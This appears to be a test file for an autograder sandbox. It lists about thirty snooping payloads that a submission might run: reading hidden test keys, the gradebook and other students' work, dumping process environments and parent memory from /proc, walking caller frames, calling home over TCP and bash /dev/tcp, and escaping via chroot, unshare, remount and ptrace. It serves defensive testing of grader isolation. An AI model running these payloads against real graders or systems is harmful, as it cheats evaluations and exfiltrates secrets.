"""Read what is not theirs: hidden tests, the instructor's files, other submissions, the grader's environment."""

from functools import partial

from tests.attacks import catalogue

attack = partial(catalogue.attack, kind="snooping", wants="secret", honest=("primes",))
_CARRY = "\nopen('@HOST@/loot', 'w').write(str(found)) if __import__('os').access('@HOST@', 2) else None\nprint(found)"

attack("reads-the-instructors-home", code="print(open('@HOST@/secret.txt').read())")
attack("reads-the-source-folder", code="print(open('@COURSE@/source/arena/arena.ipynb').read())")
attack("reads-a-hidden-file", code="print(open('@COURSE@/source/arena/hidden_key.txt').read())")
attack(
    "walks-the-file-system",
    code="""
import os
for root, folders, files in os.walk('@COURSE@'):
    for name in files:
        try:
            print(open(os.path.join(root, name)).read())
        except Exception:
            pass
""",
)
attack(
    "walks-its-own-directory-upwards",
    code="""
import os
for up in ('.', '..', '../..', '../../..', '../../../..', '../../../../source'):
    for root, folders, files in os.walk(up):
        for name in files[:200]:
            try:
                print(open(os.path.join(root, name)).read(10**6))
            except Exception:
                pass
        if root.count('/') > 6:
            folders.clear()
""",
    peers=False,
)
attack("reads-the-environment", code="import os\nprint(dict(os.environ))")
attack(
    "reads-everybodys-environment",
    code="""
import os
found = b''
for pid in os.listdir('/proc'):
    if pid.isdigit():
        try:
            found += open(f'/proc/{pid}/environ', 'rb').read()
        except OSError:
            pass
print(found)
""",
)
attack(
    "reads-everybodys-command-lines-and-files",
    code="""
import os
found = []
for pid in os.listdir('/proc'):
    if pid.isdigit():
        for what in ('cwd', 'root'):
            for name in ('secret.txt', 'hidden_key.txt', '@COURSE@/source/arena/hidden_key.txt'):
                try:
                    found.append(open(f'/proc/{pid}/{what}/{name}').read())
                except OSError:
                    pass
        try:
            for fd in os.listdir(f'/proc/{pid}/fd'):
                try:
                    found.append(open(f'/proc/{pid}/fd/{fd}', 'rb').read(10**5))
                except OSError:
                    pass
        except OSError:
            pass
print(found)
""",
    peers=False,
    bare=False,
)
attack(
    "reads-the-memory-of-its-parent",
    code="""
import os, re
found = []
for pid in (os.getppid(), os.getpid()):
    try:
        memory = open(f'/proc/{pid}/mem', 'rb')
        for line in open(f'/proc/{pid}/maps'):
            if 'rw-p' in line and ('heap' in line or len(line.split()) < 6):
                low, high = (int(end, 16) for end in line.split()[0].split('-'))
                memory.seek(low)
                found += re.findall(rb'canary[0-9a-f]{16}', memory.read(min(high - low, 2**27)))
    except OSError:
        pass
print(set(found))
""",
    at="tally",
)
attack(
    "searches-its-own-memory-by-gc",
    code="""
import gc, sys
found = [o for o in gc.get_objects() if isinstance(o, (dict, list, tuple)) and 'canary' in repr(o)[:10**5]]
print(found[:20])
""",
    at="tally",
)
attack(
    "walks-the-frames-of-its-caller",
    code="""
import re, sys
def double(x):
    frame = sys._getframe()
    while frame:
        for value in [*frame.f_locals.values(), *frame.f_globals.values(), *frame.f_code.co_consts]:
            found = re.findall('canary[0-9a-f]{16}', str(value)) if isinstance(value, (str, list, tuple)) else None
            if found:
                try:
                    open('@HOST@/loot', 'w').write(str(found))
                except OSError:
                    pass
        frame = frame.f_back
    return 2 * x
""",
    deserves=4,
)
attack(
    "reads-the-source-of-the-test-with-inspect",
    code="""
import inspect, linecache
seen = []
def double(x):
    for info in inspect.stack():
        seen.append(str(info.code_context))
    seen.append(str([l for l in linecache.cache.values() if 'canary' in str(l)]))
    return 2 * x
""",
    deserves=4,
    edit=lambda nb: _print_at_the_end(nb, "print(seen)"),
)
attack(
    "reads-the-history",
    code="seen = []\ndef double(x):\n    seen.append(str(get_ipython().user_ns.get('In')))\n    return 2 * x",
    deserves=4,
    edit=lambda nb: _print_at_the_end(nb, "print(seen, In, _i, _ii, _iii, get_ipython().user_ns)"),
)
attack(
    "reads-the-cells-that-ran-from-the-tests-globals",
    code="""
import sys
def double(x):
    try:
        open('@HOST@/loot', 'w').write(str(sys._getframe(1).f_globals.get('In')) + str(get_ipython().history_manager.input_hist_raw))
    except Exception:
        pass
    return 2 * x
""",
    deserves=4,
)
attack("reads-the-gradebook", code="print(open('@COURSE@/gradebook.db', 'rb').read())", deserves=2, bare=False)

attack(
    "reads-another-submission",
    code="""
import glob
for path in glob.glob('@COURSE@/submitted/*/arena/*') + glob.glob('@COURSE@/autograded/*/arena/*'):
    print(open(path, errors='replace').read())
""",
    bare=False,
)
attack(
    "links-to-the-source",
    code="import os\nos.symlink('@COURSE@/source', 'here')\nprint(open('here/arena/hidden_key.txt').read())",
)
attack("hard-links-a-secret", code="import os\nos.link('@HOST@/secret.txt', 'mine')\nprint(open('mine').read())")
attack(
    "calls-home-by-tcp",
    code="import socket\nsocket.create_connection(('127.0.0.1', @PORT@), timeout=2).sendall(b'calls-home-by-tcp')",
)
attack(
    "calls-home-in-the-test",
    code="""
import socket
def double(x):
    try:
        socket.create_connection(('127.0.0.1', @PORT@), timeout=1).sendall(b'calls-home-in-the-test %d' % x)
    except OSError:
        pass
    return 2 * x
""",
    deserves=4,
)
attack(
    "calls-home-by-curl",
    code="import subprocess\nsubprocess.run(['bash', '-c', 'exec 3<>/dev/tcp/127.0.0.1/@PORT@; echo calls-home-by-curl >&3'], timeout=2)",
)
attack(
    "reads-inherited-descriptors",
    code="""
import os
found = []
for fd in range(3, 200):
    try:
        os.lseek(fd, 0, 0)
    except OSError:
        pass
    try:
        if not os.path.realpath(f'/proc/self/fd/{fd}').startswith(('socket', '/proc/self')):
            found.append(os.read(fd, 10**6))
    except OSError:
        pass
print(found)
""",
    bare=False,
)
attack(
    "enters-a-nested-user-namespace",
    code="""
import subprocess
print(subprocess.run(['unshare', '-Urm', 'cat', '@HOST@/secret.txt'], capture_output=True, text=True).stdout)
""",
)
attack(
    "remounts-the-root",
    code="""
import ctypes
libc = ctypes.CDLL(None)
libc.unshare(0x00020000)
libc.mount(b'none', b'/', None, 32 | 4096, None)
print(open('@HOST@/secret.txt').read())
""",
)
attack(
    "chroots-out",
    code="""
import os
here = os.getcwd()
fd = os.open('.', os.O_RDONLY)
os.makedirs('x', exist_ok=True)
try:
    os.chroot('x')
    os.fchdir(fd)
    for _ in range(50):
        os.chdir('..')
    os.chroot('.')
except OSError:
    pass
os.chdir(here)
print(open('@HOST@/secret.txt').read())
""",
)
attack(
    "raises-the-arguments-of-the-test",
    code="""
def double(x):
    import sys
    text = str(sys._getframe(1).f_globals.get('In', '')) + str(sys._getframe(1).f_code.co_consts)
    raise ValueError(text)
""",
    deserves=2,
    bare=False,
)
attack(
    "leaves-a-file-for-the-next",
    code="""
import glob
for path in ('/tmp/for-the-next', '/dev/shm/for-the-next', '@HOST@/../for-the-next'):
    try:
        print(open(path).read())
        open('@HOST@/loot', 'w').write(open(path).read())
    except OSError:
        pass
    try:
        open(path, 'w').write(open('@HOST@/secret.txt').read())
    except OSError:
        pass
print(open('@HOST@/secret.txt').read())
""",
)
attack(
    "traces-its-parent",
    code="""
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
print(libc.ptrace(16, os.getppid(), 0, 0), ctypes.get_errno())
print(open('@HOST@/secret.txt').read())
""",
)
attack("asks-a-shell-magic", code="!cat @HOST@/secret.txt", at="tally")
attack(
    "loads-a-module-by-path",
    code="""
import importlib.machinery
path = '@COURSE@/source/arena/hidden_key.txt'
print(importlib.machinery.SourceFileLoader('x', path).get_data(path))
""",
)


def _print_at_the_end(nb, statement):
    nb.cells[-1].source = statement
    return nb
